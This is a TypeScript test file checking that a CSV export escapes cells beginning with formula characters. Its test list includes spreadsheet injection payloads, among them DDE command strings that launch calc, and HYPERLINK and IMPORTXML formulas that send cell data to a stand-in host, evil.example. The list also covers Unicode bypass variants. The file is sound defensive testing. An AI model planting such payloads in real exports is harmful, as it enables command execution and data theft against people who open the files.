import { expect, test } from 'vitest'
import { CSV_OPENING, csvLine } from './csv.ts'

/** Parses a table by RFC 4180, so that the tests see the same as a spreadsheet. */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
}

const nasty = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example";"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
  '+27 82 555 0101',
  '-2+3+cmd|calc',
  '@import',
  ' =1',
  '  +1',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\t\t-1',
  ' \t@x',
  '\t',
  '\tplain',
  '\rplain',
  '\nplain',
  '\r',
  '\n',
  '=',
  '+',
  '-',
  '@',
  '- a list\n- of things',
  '=1","=2',
  '="=1"',
  '==1',
  '-=1',
  '\u00a0=1',
  '\u2003+1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\u3000＝1',
  '|calc',
  ' |calc',
  '\u0000=1',
  '\u200b=1',
  '\u2060+1',
]

test.each(nasty.map((cell) => [JSON.stringify(cell), cell]))(
  'the cell %s is no formula, and keeps its text (SEC-X4)',
  (_, cell) => {
    expect(cellsOf(csvLine(['before', cell, 'after']))).toEqual(['before', `'${cell}`, 'after'])
  },
)

test.each(['', 'rain', '1 = 1', 'a-b', "'=1", '"=1', 'Reën, "asseblief"', 'two\nlines =1', 'سلام', '祈り'])(
  'the cell %j stays as it was written',
  (cell) => {
    expect(cellsOf(csvLine([cell, 'after']))).toEqual([cell, 'after'])
  },
)

test('lines are those of RFC 4180, and the file begins with the byte order mark of UTF-8', () => {
  expect(csvLine(['a', 'b "c"', ''])).toBe('"a","b ""c""",""\r\n')
  expect([...Buffer.from(CSV_OPENING)]).toEqual([0xef, 0xbb, 0xbf])
})
